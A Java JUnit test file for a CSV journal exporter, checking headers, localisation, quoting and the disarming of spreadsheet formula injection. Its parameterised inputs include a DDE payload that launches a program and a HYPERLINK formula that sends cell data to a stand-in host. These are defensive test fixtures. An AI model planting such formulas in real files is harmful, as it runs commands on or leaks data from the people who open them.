package io.patkeeper.journal;

import java.io.IOException;
import java.io.StringWriter;
import java.io.UncheckedIOException;
import java.time.Instant;
import java.util.List;
import java.util.Locale;
import java.util.UUID;
import java.util.stream.Collectors;
import java.util.stream.Stream;

import io.patkeeper.Texts;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

import static io.patkeeper.Texts.text;
import static org.assertj.core.api.Assertions.assertThat;

class JournalCsvTests {

	private static final String ID = "7d444840-9dc0-11d1-b245-5ffdce74fad2";

	private final JournalCsv csv = new JournalCsv(Texts.source());

	@Test
	void writesAHeaderAndOneLineForEachRow() {
		String table = write(List.of(row("deploy", "invalidScope")), Locale.ENGLISH);
		String header = Stream
			.of("journal.time", "token.organization", "token.name", "token.authorization-id", "journal.action",
					"journal.outcome", "journal.code", "journal.correlation-id", "fault.activity-id")
			.map((key) -> JournalCsv.cell(text(key)))
			.collect(Collectors.joining(","));
		assertThat(table).isEqualTo("\uFEFF" + header + "\r\n2026-11-23T12:00:00Z,fabrikam,deploy," + ID + ","
				+ JournalCsv.cell(text("journal.action.create")) + ","
				+ JournalCsv.cell(text("journal.outcome.refused")) + ",invalidScope,0123456789abcdef,\r\n");
	}

	@Test
	void translatesTheHeaderAndWordsButNotTimes() {
		String table = write(List.of(row("deploy", null)), Texts.PORTUGUESE);
		assertThat(table).startsWith("\uFEFF" + JournalCsv.cell(text(Texts.PORTUGUESE, "journal.time")) + ",")
			.doesNotContain(text("journal.action.create"), text("journal.time"));
		assertThat(table.lines()).hasSize(2)
			.last()
			.asString()
			.startsWith("2026-11-23T12:00:00Z,fabrikam,deploy," + ID + ","
					+ JournalCsv.cell(text(Texts.PORTUGUESE, "journal.action.create")) + ",");
	}

	@Test
	void writesOnlyTheHeaderIfThereAreNoRows() {
		assertThat(write(List.of(), Locale.ENGLISH).lines()).hasSize(1);
	}

	@Test
	void quotesCellsWithSpecialCharacters() {
		assertThat(JournalCsv.cell("plain, no")).isEqualTo("\"plain, no\"");
		assertThat(JournalCsv.cell("say \"hi\"")).isEqualTo("\"say \"\"hi\"\"\"");
		assertThat(JournalCsv.cell("two\r\nlines")).isEqualTo("\"two\r\nlines\"");
		assertThat(JournalCsv.cell("\"")).isEqualTo("\"\"\"\"");
		assertThat(JournalCsv.cell("plain o'clock \uD83D\uDD11")).isEqualTo("plain o'clock \uD83D\uDD11");
		assertThat(JournalCsv.cell("plain; no")).as("a separator in some locales").isEqualTo("\"plain; no\"");
		assertThat(JournalCsv.cell("")).isEmpty();
	}

	@ParameterizedTest
	@ValueSource(strings = { "=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "\nx", "\0x", "=", "\uFF1D1", "\uFF0B1",
			"\uFF0D1", "\uFF201", " =1", "\t=1", "\u00A0=1", "\u3000\uFF1D1", "\uFEFF=1", "\u200B@x",
			"=HYPERLINK(\"http://example.com?\"&A1,\"x\")", "=cmd|' /C calc'!A0", "-\n=1" })
	void disarmsFormulas(String formula) {
		String cell = JournalCsv.cell(formula);
		boolean quoted = cell.startsWith("\"");
		String content = quoted ? cell.substring(1, cell.length() - 1).replace("\"\"", "\"") : cell;
		assertThat(content).startsWith("'");
		assertThat(content.replace("'", "")).isEqualTo(formula.replace("'", ""));
		assertThat(quoted).isEqualTo(formula.matches("(?s).*[\",;\\x00-\\x1f].*"));
	}

	@ParameterizedTest
	@CsvSource(quoteCharacter = '`', textBlock = """
			x;=1+1        | x;'=1+1
			x; @SUM(A1)   | x;' @SUM(A1)
			x\\t=1+1      | x\\t'=1+1
			x\\r=1+1      | x\\r'=1+1
			x\\r\\n-1      | x\\r\\n'-1
			=1;=2         | '=1;'=2
			x;y;z         | x;y;z
			""", delimiter = '|')
	void disarmsFormulasAfterOtherSeparators(String text, String disarmed) {
		assertThat(JournalCsv.cell(text.translateEscapes())).isEqualTo('"' + disarmed.translateEscapes() + '"');
	}

	@ParameterizedTest
	@ValueSource(strings = { "a=1", "deploy-2", "user@host", "'=1", "1-1", "release +1", "git: https://x on -host" })
	void leavesOtherTextUnchanged(String text) {
		assertThat(JournalCsv.cell(text)).isEqualTo(text);
	}

	private String write(List<JournalRow> rows, Locale locale) {
		StringWriter out = new StringWriter();
		try {
			this.csv.write(rows.stream(), locale, out);
		}
		catch (IOException ex) {
			throw new UncheckedIOException(ex);
		}
		return out.toString();
	}

	private static JournalRow row(String name, @Nullable String code) {
		return new JournalRow(Instant.parse("2026-11-23T12:00:00Z"), "fabrikam", UUID.fromString(ID), name, "create",
				(code != null) ? "refused" : "done", code, "0123456789abcdef", null);
	}

}
